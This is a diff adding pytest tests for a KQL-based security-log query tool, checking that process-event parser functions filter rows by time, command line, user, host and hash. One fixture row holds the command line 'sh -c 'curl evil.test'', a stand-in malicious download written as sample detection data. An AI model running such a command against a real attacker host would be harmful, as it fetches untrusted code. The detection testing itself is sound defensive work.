@@ -15,7 +15,10 @@ from conftest import Row, Writer
 from pyarrow import parquet
 
 import herdsight
+from herdsight import tables
 from herdsight.errors import InputError, UnsupportedError
+from herdsight.kql.binding import library
+from herdsight.querying import compiled
 
 
 def rows(kql: str, *paths: Path, **options: Any) -> list[Row]:
@@ -303,6 +306,58 @@ def test_a_parameter_that_there_is_not_is_an_error_at_the_call() -> None:
     with pytest.raises(herdsight.errors.QueryError) as caught:
         rows("_Im_NetworkSession(srcport=22)")
     assert "srcport" in caught.value.what
+
+
+PROCESSES = """
+datatable(
+    At: datetime, Name: string, Line: string, User: string, Host: string, Address: string, Kind: string, Md5: string
+) [
+    datetime(2024-05-01 12:00), @"C:\\a\\cmd.exe", "ping 10.0.0.9", "ann", "h1", "10.0.0.5", "ProcessCreated", "aa",
+    datetime(2024-05-01 12:10), "/bin/sh", "sh -c 'curl evil.test'", "bob", "h2", "10.1.0.5", "ProcessCreated", "bb",
+    datetime(2024-05-01 12:20), "/bin/sh", "", "bob", "h2", "10.1.0.5", "ProcessTerminated", "bb"
+]
+| project TimeGenerated = At, TargetProcessName = Name, TargetProcessCommandLine = Line, TargetUsername = User,
+    DvcHostname = Host, DvcIpAddr = Address, EventType = Kind, TargetProcessMD5 = Md5
+"""
+
+
+@pytest.mark.parametrize(
+    ("call", "minutes"),
+    [
+        ("_Im_ProcessEvent()", [0, 10, 20]),
+        ("_Im_ProcessEvent(starttime=datetime(2024-05-01 12:10))", [10, 20]),
+        ("_Im_ProcessEvent(endtime=datetime(2024-05-01 12:10))", [0, 10]),
+        ("_Im_ProcessEvent(commandline_has_any=dynamic(['ping', 'wget']))", [0]),
+        ("_Im_ProcessEvent(commandline_has_all=dynamic(['sh', 'curl']))", [10]),
+        ("_Im_ProcessEvent(commandline_has_any_ip_prefix=dynamic(['10.0.']))", [0]),
+        ("_Im_ProcessEvent(targetprocess_has_any=dynamic(['cmd.exe']))", [0]),
+        ("_Im_ProcessEvent(targetusername_has='bob', eventtype='ProcessCreated')", [10]),
+        (
+            "_Im_ProcessEvent(dvcipaddr_has_any_prefix=dynamic(['10.1.']), dvchostname_has_any=dynamic(['h2']))",
+            [10, 20],
+        ),
+        ("_Im_ProcessEvent(hashes_has_any=dynamic(['aa']))", [0]),
+        ("_Im_ProcessCreate(targetusername_has='bob')", [10]),
+        ("_Im_ProcessTerminate()", [20]),
+        ("_Im_ProcessEvent(disabled=true)", []),
+    ],
+)
+def test_each_parameter_of_processes_chooses(call: str, minutes: list[int]) -> None:
+    """Over a table in the query, for no log is read yet that fills the real one."""
+    columns = ", ".join(f"{each.name}: {each.type}" for each in tables.table("ASimProcessEventLogs").columns)
+    table = f"let ASimProcessEventLogs = union (datatable({columns})[]), ({PROCESSES});"
+    folder = files("herdsight.kql").joinpath("library")
+    functions = (folder.joinpath(f"_Im_Process{each}.kql") for each in ("Event", "Create", "Terminate"))
+    texts = ";\n".join(each.read_text(encoding="utf-8").rstrip() for each in functions)
+    found = rows(f"{table}\n{texts};\n{call} | sort by TimeGenerated asc | project TimeGenerated")
+    assert [row["TimeGenerated"] for row in found] == [NOON + timedelta(minutes=minute) for minute in minutes]
+
+
+@pytest.mark.parametrize("name", sorted(library.names()))
+def test_every_parser_is_called_by_all_its_names(name: str) -> None:
+    assert compiled(f"{name}(starttime=ago(1d), endtime=now(), disabled=false) | count")
+    with pytest.raises(herdsight.errors.QueryError, match="nobody"):
+        compiled(f"{name}(nobody='x')")
 
 
 DNS = """
